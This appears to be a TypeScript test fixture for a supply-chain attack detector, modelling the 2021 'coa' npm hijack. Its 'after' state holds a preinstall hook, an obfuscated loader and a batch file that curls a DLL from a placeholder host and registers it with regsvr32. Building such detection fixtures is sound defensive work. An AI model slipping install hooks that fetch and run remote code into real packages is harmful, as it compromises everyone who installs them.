import { manifest } from '../pack-release.ts'
import type { Hijack } from './hijack.ts'

import { obfuscate } from './hijack.ts'

const code = 'exports.Cmd = function () {\n  return this\n}\n'

/** November 2021, and rc with it: a preinstall script of obfuscated JavaScript, which wrote and ran a batch file. */
export const coa: Hijack = {
  name: 'coa',
  ecosystem: 'npm',
  from: '2.0.2',
  to: '2.0.3',
  before: { 'package.json': manifest(), 'index.js': code },
  after: {
    'package.json': manifest({ scripts: { preinstall: 'start /B node compile.js & node compile.js' } }),
    'index.js': code,
    'compile.js': `${obfuscate(['win32', 'compile.bat'])}const{exec:_0x1}=require('child_process');if(process['platform']==='win32')_0x1('compile.bat');`,
    'compile.bat': '@echo off\ncurl https://files.invalid/sdd.dll -o compile.dll\nregsvr32.exe -s compile.dll\n',
  },
  tells: /runs a program that it fetched|starts other programs/,
}
